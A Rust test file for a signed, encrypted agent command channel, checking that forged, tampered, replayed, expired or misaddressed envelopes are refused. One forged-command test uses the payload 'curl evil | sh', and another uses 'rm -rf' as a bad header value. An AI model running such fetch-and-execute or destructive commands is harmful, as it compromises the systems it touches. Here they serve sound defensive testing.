//! Commands and results end to end through JSON: every way an envelope is refused,
//! and that the good ones open.

// Test code: a failed unwrap is a failed assertion, helpers included.
#![allow(clippy::unwrap_used)]

mod common;

use channel::envelope::{MAX_ENVELOPE_BYTES, MAX_PAYLOAD_BYTES};
use channel::{
    open_result, seal_command, seal_result, ChannelError, KemSecretKey, ReplayKind, ResultHeader,
    ResultStatus, SealedCommand, SealedResult, SigningKey,
};
use common::{edit_json, flip_b64_field, Fixture, AGENT, NOW};

fn reparse(bytes: &[u8]) -> Result<SealedCommand, ChannelError> {
    SealedCommand::from_json(bytes)
}

#[test]
fn command_round_trip_through_json() {
    let mut f = Fixture::new();
    let header = f.header(1);
    let sealed = f.seal(&header, b"systemctl restart nginx");
    let json = serde_json::to_vec(&sealed).unwrap();
    let parsed = reparse(&json).unwrap();
    assert_eq!(parsed, sealed);
    assert_eq!(parsed.recipient_key_id(), &f.agent_kem.key_id());
    assert_eq!(parsed.signer_key_id(), &f.server_signing.key_id());
    let opened = f.open(&parsed).unwrap();
    assert_eq!(opened.header(), &header);
    assert_eq!(opened.payload(), b"systemctl restart nginx");
    // Debug never shows the payload.
    assert!(!format!("{opened:?}").contains("nginx"));
}

#[test]
fn empty_and_maximal_payloads_round_trip() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"");
    assert_eq!(f.open(&sealed).unwrap().payload(), b"");

    let big = vec![0xA5u8; MAX_PAYLOAD_BYTES];
    let sealed = f.seal(&f.header(2), &big);
    let json = serde_json::to_vec(&sealed).unwrap();
    assert!(json.len() <= MAX_ENVELOPE_BYTES, "{} bytes", json.len());
    assert_eq!(
        f.open(&reparse(&json).unwrap()).unwrap().payload(),
        &big[..]
    );
}

#[test]
fn oversized_payload_is_refused_when_sealing() {
    let mut f = Fixture::new();
    let header = f.header(1);
    let err = seal_command(
        &header,
        &vec![0u8; MAX_PAYLOAD_BYTES + 1],
        f.agent_kem.public_key(),
        &f.server_signing,
        &mut f.rng,
    )
    .unwrap_err();
    assert_eq!(err, ChannelError::PayloadTooLarge);
}

#[test]
fn invalid_headers_are_refused_when_sealing() {
    let mut f = Fixture::new();
    type Edit = fn(&mut channel::CommandHeader);
    let cases: [(&str, Edit); 6] = [
        ("agent_id", |h| h.agent_id = String::new()),
        ("agent_id", |h| h.agent_id = "a b".into()),
        ("command_id", |h| h.command_id = "x".repeat(129)),
        ("kind", |h| h.kind = "rm -rf".into()),
        ("sequence", |h| h.sequence = 0),
        ("expires_at", |h| h.expires_at = h.issued_at),
    ];
    for (field, edit) in cases {
        let mut h = f.header(1);
        edit(&mut h);
        let err = seal_command(
            &h,
            b"",
            f.agent_kem.public_key(),
            &f.server_signing,
            &mut f.rng,
        )
        .unwrap_err();
        assert_eq!(err, ChannelError::InvalidField(field));
    }
}

#[test]
fn forged_signature_from_another_key_is_refused() {
    let mut f = Fixture::new();
    let mallory = SigningKey::generate_from_rng(&mut f.rng);
    let header = f.header(1);
    let forged = seal_command(
        &header,
        b"curl evil | sh",
        f.agent_kem.public_key(),
        &mallory,
        &mut f.rng,
    )
    .unwrap();
    assert_eq!(f.open(&forged).unwrap_err(), ChannelError::BadSignature);

    // Claiming to be the real key does not help.
    let real_id = f.server_signing.key_id().to_string();
    let json = edit_json(&forged, |v| v["signer_key_id"] = real_id.into());
    assert_eq!(
        f.open(&reparse(&json).unwrap()).unwrap_err(),
        ChannelError::BadSignature
    );
}

#[test]
fn flipped_signature_bit_is_refused() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"x");
    for byte in [0, 31, 32, 63] {
        let json = edit_json(&sealed, |v| flip_b64_field(v, "signature", byte));
        assert_eq!(
            f.open(&reparse(&json).unwrap()).unwrap_err(),
            ChannelError::BadSignature,
            "signature byte {byte}"
        );
    }
}

#[test]
fn tampering_on_the_wire_is_caught_by_the_signature() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(3), b"payload");
    type Edit = fn(&mut serde_json::Value);
    let cases: [(&str, Edit); 11] = [
        ("kem ciphertext (ML-KEM part)", |v| {
            flip_b64_field(v, "kem_ciphertext", 0)
        }),
        ("kem ciphertext (X25519 part)", |v| {
            flip_b64_field(v, "kem_ciphertext", 1119)
        }),
        ("nonce", |v| flip_b64_field(v, "nonce", 11)),
        ("aead ciphertext", |v| flip_b64_field(v, "ciphertext", 0)),
        ("aead tag", |v| flip_b64_field(v, "ciphertext", 22)),
        ("command id", |v| {
            v["header"]["command_id"] = "cmd-9999".into()
        }),
        ("sequence", |v| v["header"]["sequence"] = 4.into()),
        ("issued_at", |v| v["header"]["issued_at"] = (NOW - 1).into()),
        ("expires_at", |v| {
            v["header"]["expires_at"] = (NOW + 86_400_000).into()
        }),
        ("kind", |v| v["header"]["kind"] = "package/remove".into()),
        ("recipient key id", |v| {
            v["recipient_key_id"] = "0000000000000000".into()
        }),
    ];
    for (what, edit) in cases {
        let json = edit_json(&sealed, edit);
        let parsed = reparse(&json).unwrap();
        assert_ne!(parsed, sealed, "{what}: edit had no effect");
        assert_eq!(
            f.open(&parsed).unwrap_err(),
            ChannelError::BadSignature,
            "{what}"
        );
    }
}

#[test]
fn command_for_another_agent_is_refused() {
    let mut f = Fixture::new();
    let mut header = f.header(1);
    header.agent_id = "agent-other".into();
    let sealed = f.seal(&header, b"x");
    assert_eq!(f.open(&sealed).unwrap_err(), ChannelError::WrongAgent);

    // Rewriting the agent id on the wire breaks the signature instead.
    let json = edit_json(&sealed, |v| v["header"]["agent_id"] = AGENT.into());
    assert_eq!(
        f.open(&reparse(&json).unwrap()).unwrap_err(),
        ChannelError::BadSignature
    );
}

#[test]
fn command_sealed_to_a_rotated_kem_key_is_refused() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"x");
    let old = std::mem::replace(&mut f.agent_kem, KemSecretKey::generate());
    assert_eq!(
        f.open(&sealed).unwrap_err(),
        ChannelError::WrongRecipientKey
    );
    f.agent_kem = old;
    assert!(f.open(&sealed).is_ok());
}

#[test]
fn expired_command_is_refused() {
    let mut f = Fixture::new();
    let header = f.header(1);
    let sealed = f.seal(&header, b"x");
    assert!(f.open_at(&sealed, header.expires_at).is_ok());
    assert_eq!(
        f.open_at(&sealed, header.expires_at + 1).unwrap_err(),
        ChannelError::Expired
    );
}

#[test]
fn command_from_the_future_beyond_skew_is_refused() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"x");
    // Agent clock 30 s behind: still accepted.
    assert!(f.open_at(&sealed, NOW - 30_000).is_ok());
    assert_eq!(
        f.open_at(&sealed, NOW - 30_001).unwrap_err(),
        ChannelError::NotYetValid
    );
}

#[test]
fn replays_are_refused_after_commit() {
    let mut f = Fixture::new();
    let first = f.seal(&f.header(5), b"x");
    let opened = f.open(&first).unwrap();
    // Opening alone does not consume it (the agent commits after executing).
    assert!(f.open(&first).is_ok());
    f.guard.commit(&opened);
    assert_eq!(f.guard.last_sequence(), 5);
    assert_eq!(
        f.open(&first).unwrap_err(),
        ChannelError::Replay(ReplayKind::AlreadyExecuted)
    );

    // A genuine but older command (delivered late) is refused.
    let older = f.seal(&f.header(4), b"x");
    assert_eq!(
        f.open(&older).unwrap_err(),
        ChannelError::Replay(ReplayKind::StaleSequence)
    );
    // Same sequence, new id: still stale.
    let mut same_seq = f.header(5);
    same_seq.command_id = "cmd-other".into();
    let same_seq = f.seal(&same_seq, b"x");
    assert_eq!(
        f.open(&same_seq).unwrap_err(),
        ChannelError::Replay(ReplayKind::StaleSequence)
    );
    // A newer one goes through; gaps are fine.
    let newer = f.seal(&f.header(9), b"x");
    assert!(f.open(&newer).is_ok());
}

#[test]
fn journal_catches_a_known_id_with_a_higher_sequence() {
    let mut f = Fixture::new();
    let first = f.seal(&f.header(1), b"x");
    let opened = f.open(&first).unwrap();
    f.guard.commit(&opened);
    // The control plane re-issues the same command id under a new sequence.
    let mut again = f.header(2);
    again.command_id = opened.header().command_id.clone();
    let again = f.seal(&again, b"x");
    assert_eq!(
        f.open(&again).unwrap_err(),
        ChannelError::Replay(ReplayKind::AlreadyExecuted)
    );
}

#[test]
fn replay_guard_survives_persistence() {
    let mut f = Fixture::new();
    for seq in [1, 2, 5] {
        let sealed = f.seal(&f.header(seq), b"");
        let opened = f.open(&sealed).unwrap();
        f.guard.commit(&opened);
    }
    let json = serde_json::to_string(&f.guard).unwrap();
    let restored: channel::ReplayGuard = serde_json::from_str(&json).unwrap();
    assert_eq!(restored, f.guard);
    assert_eq!(restored.last_sequence(), 5);
    assert!(restored.has_executed("cmd-0002"));
    f.guard = restored;
    let old = f.seal(&f.header(2), b"");
    assert_eq!(
        f.open(&old).unwrap_err(),
        ChannelError::Replay(ReplayKind::AlreadyExecuted)
    );
}

#[test]
fn unknown_version_is_refused() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"x");
    let json = edit_json(&sealed, |v| v["v"] = 2.into());
    assert_eq!(reparse(&json).unwrap_err(), ChannelError::UnknownVersion(2));
    // A future shape with other fields still reports the version, not "malformed".
    assert_eq!(
        reparse(br#"{"v":3,"suite":"something-new"}"#).unwrap_err(),
        ChannelError::UnknownVersion(3)
    );
    assert_eq!(
        reparse(br#"{"v":0}"#).unwrap_err(),
        ChannelError::UnknownVersion(0)
    );
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let mut input = vec![b' '; MAX_ENVELOPE_BYTES + 1];
    input[0] = b'{';
    assert_eq!(reparse(&input).unwrap_err(), ChannelError::TooLarge);
}

#[test]
fn truncated_and_garbage_json_is_malformed() {
    let mut f = Fixture::new();
    let sealed = f.seal(&f.header(1), b"payload");
    let json = serde_json::to_vec(&sealed).unwrap();
    for cut in (0..json.len()).step_by(7) {
        let err = reparse(&json[..cut]).unwrap_err();
        assert!(
            matches!(err, ChannelError::Malformed(_)),
            "cut at {cut}: {err:?}"
        );
    }
    for garbage in [
        &b""[..],
        b"null",
        b"[]",
        b"{}",
        b"{\"v\":1}",
        b"{\"v\":\"1\"}",
        b"{\"v\":-1}",
        b"\xff\xfe",
    ] {
        assert!(matches!(
            reparse(garbage).unwrap_err(),
            ChannelError::Malformed(_)
        ));
    }
    // Field-level damage: wrong lengths, bad base64, extra fields, bad ids.
    let edits: [fn(&mut serde_json::Value); 7] = [
        |v| v["nonce"] = "AAAA".into(),
        |v| v["kem_ciphertext"] = "!!!!".into(),
        |v| v["signature"] = "".into(),
        |v| v["extra"] = 1.into(),
        |v| v["header"]["agent_id"] = "agent 7".into(),
        |v| v["header"]["sequence"] = (-1).into(),
        |v| v["recipient_key_id"] = "XYZ".into(),
    ];
    for edit in edits {
        let json = edit_json(&sealed, edit);
        assert!(matches!(
            reparse(&json).unwrap_err(),
            ChannelError::Malformed(_)
        ));
    }
}

// Arbitrary and mutated input: fuzz/ targets envelope_open and agent_requests (scripts/fuzz.sh).

// ---------------------------------------------------------------------------
// Results
// ---------------------------------------------------------------------------

fn result_header() -> ResultHeader {
    ResultHeader {
        agent_id: AGENT.into(),
        command_id: "cmd-0001".into(),
        sequence: 1,
        finished_at: NOW,
        status: ResultStatus::Succeeded,
    }
}

fn seal_result_fixture(f: &mut Fixture, header: &ResultHeader, output: &[u8]) -> SealedResult {
    seal_result(
        header,
        output,
        f.server_kem.public_key(),
        &f.agent_signing,
        &mut f.rng,
    )
    .unwrap()
}

#[test]
fn result_round_trip_through_json() {
    let mut f = Fixture::new();
    let header = result_header();
    let sealed = seal_result_fixture(&mut f, &header, b"active (running)");
    let json = serde_json::to_vec(&sealed).unwrap();
    let parsed = SealedResult::from_json(&json).unwrap();
    let opened = open_result(
        &parsed,
        AGENT,
        &f.server_kem,
        f.agent_signing.verifying_key(),
        NOW,
    )
    .unwrap();
    assert_eq!(opened.header(), &header);
    assert_eq!(opened.output(), b"active (running)");
    assert!(!format!("{opened:?}").contains("running"));
}

#[test]
fn result_rejections() {
    let mut f = Fixture::new();
    let sealed = seal_result_fixture(&mut f, &result_header(), b"out");
    let agent_vk = f.agent_signing.verifying_key().clone();

    // Signed by the server key instead of the agent's identity key.
    assert_eq!(
        open_result(
            &sealed,
            AGENT,
            &f.server_kem,
            f.server_signing.verifying_key(),
            NOW
        )
        .unwrap_err(),
        ChannelError::BadSignature
    );
    // Posted on behalf of another agent.
    assert_eq!(
        open_result(&sealed, "agent-other", &f.server_kem, &agent_vk, NOW).unwrap_err(),
        ChannelError::WrongAgent
    );
    // Control plane rotated its KEM key.
    assert_eq!(
        open_result(&sealed, AGENT, &f.agent_kem, &agent_vk, NOW).unwrap_err(),
        ChannelError::WrongRecipientKey
    );
    // Finished in the future.
    assert_eq!(
        open_result(&sealed, AGENT, &f.server_kem, &agent_vk, NOW - 30_001).unwrap_err(),
        ChannelError::NotYetValid
    );
    // Late results are fine.
    assert!(open_result(&sealed, AGENT, &f.server_kem, &agent_vk, NOW + 86_400_000).is_ok());
    // Wire tampering.
    let json = edit_json(&sealed, |v| v["header"]["status"] = "failed".into());
    let parsed = SealedResult::from_json(&json).unwrap();
    assert_eq!(
        open_result(&parsed, AGENT, &f.server_kem, &agent_vk, NOW).unwrap_err(),
        ChannelError::BadSignature
    );
    let json = edit_json(&sealed, |v| flip_b64_field(v, "ciphertext", 0));
    let parsed = SealedResult::from_json(&json).unwrap();
    assert_eq!(
        open_result(&parsed, AGENT, &f.server_kem, &agent_vk, NOW).unwrap_err(),
        ChannelError::BadSignature
    );
}

#[test]
fn commands_and_results_do_not_cross() {
    let mut f = Fixture::new();
    let command = f.seal(&f.header(1), b"x");
    let json = serde_json::to_vec(&command).unwrap();
    assert!(matches!(
        SealedResult::from_json(&json).unwrap_err(),
        ChannelError::Malformed(_)
    ));
    let result = seal_result_fixture(&mut f, &result_header(), b"x");
    let json = serde_json::to_vec(&result).unwrap();
    assert!(matches!(
        SealedCommand::from_json(&json).unwrap_err(),
        ChannelError::Malformed(_)
    ));
}

/// Every field of an operation's header is signed: a relay that turns a
/// pilot's command into a person's, swaps the plan hash, adds an approver or
/// strips the operation altogether breaks the signature.
#[test]
fn the_operation_header_is_signed() {
    use channel::ops::{ApprovalRecord, Approver, Origin};
    let mut f = Fixture::new();
    let mut header = f.header(3);
    header.kind = "restart_service".into();
    header.operation = Some(channel::OperationHeader {
        plan_hash: "ab".repeat(32),
        approval: ApprovalRecord {
            operation_id: "op_0123456789abcdef01234567".into(),
            origin: Origin::Pilot,
            proposed_by: None,
            self_approved: false,
            approvers: vec![Approver {
                user_id: 7,
                role: "member".into(),
                at: NOW - 1000,
            }],
            expires_at: NOW + 3_600_000,
        },
    });
    let sealed = f.seal(&header, b"{\"unit\":\"nginx.service\"}");
    assert_eq!(
        f.open(&sealed).unwrap().header().operation,
        header.operation
    );
    type Edit = fn(&mut serde_json::Value);
    let cases: [(&str, Edit); 6] = [
        ("origin", |v| {
            v["header"]["operation"]["approval"]["origin"] = "human".into()
        }),
        ("plan hash", |v| {
            v["header"]["operation"]["plan_hash"] = "cd".repeat(32).into()
        }),
        ("approver role", |v| {
            v["header"]["operation"]["approval"]["approvers"][0]["role"] = "admin".into()
        }),
        ("approval expiry", |v| {
            v["header"]["operation"]["approval"]["expires_at"] = (NOW + 86_400_000).into()
        }),
        ("self approval", |v| {
            v["header"]["operation"]["approval"]["self_approved"] = true.into()
        }),
        ("operation removed", |v| {
            v["header"].as_object_mut().unwrap().remove("operation");
        }),
    ];
    for (what, edit) in cases {
        let json = edit_json(&sealed, edit);
        let parsed = reparse(&json).unwrap();
        assert_ne!(parsed, sealed, "{what}: edit had no effect");
        assert_eq!(
            f.open(&parsed).unwrap_err(),
            ChannelError::BadSignature,
            "{what}"
        );
    }
    let mut bad = header.clone();
    if let Some(op) = bad.operation.as_mut() {
        op.plan_hash = "not hex".into();
    }
    assert!(channel::seal_command(
        &bad,
        b"{}",
        f.agent_kem.public_key(),
        &f.server_signing,
        &mut f.rng
    )
    .is_err());
}

/// A live output chunk opens on the control plane, cannot pass for a result,
/// and carries its index under the signature.
#[test]
fn output_chunks_are_sealed_signed_and_not_results() {
    let mut f = Fixture::new();
    let header = channel::ChunkHeader {
        agent_id: AGENT.into(),
        command_id: "cmd-0003".into(),
        sequence: 3,
        index: 2,
        at: NOW,
    };
    let sealed = channel::seal_chunk(
        &header,
        b"restarting nginx",
        f.server_kem.public_key(),
        &f.agent_signing,
        &mut f.rng,
    )
    .unwrap();
    let opened = channel::open_chunk(
        &sealed,
        AGENT,
        &f.server_kem,
        f.agent_signing.verifying_key(),
        NOW,
    )
    .unwrap();
    assert_eq!(opened.header(), &header);
    assert_eq!(opened.output(), b"restarting nginx");
    let json = serde_json::to_vec(&sealed).unwrap();
    assert!(SealedResult::from_json(&json).is_err());
    let edited = edit_json(&sealed, |v| v["header"]["index"] = 3.into());
    let parsed = reparse_chunk(&edited);
    assert_eq!(
        channel::open_chunk(
            &parsed,
            AGENT,
            &f.server_kem,
            f.agent_signing.verifying_key(),
            NOW
        )
        .unwrap_err(),
        ChannelError::BadSignature
    );
}

fn reparse_chunk(json: &[u8]) -> channel::SealedChunk {
    channel::SealedChunk::from_json(json).unwrap()
}
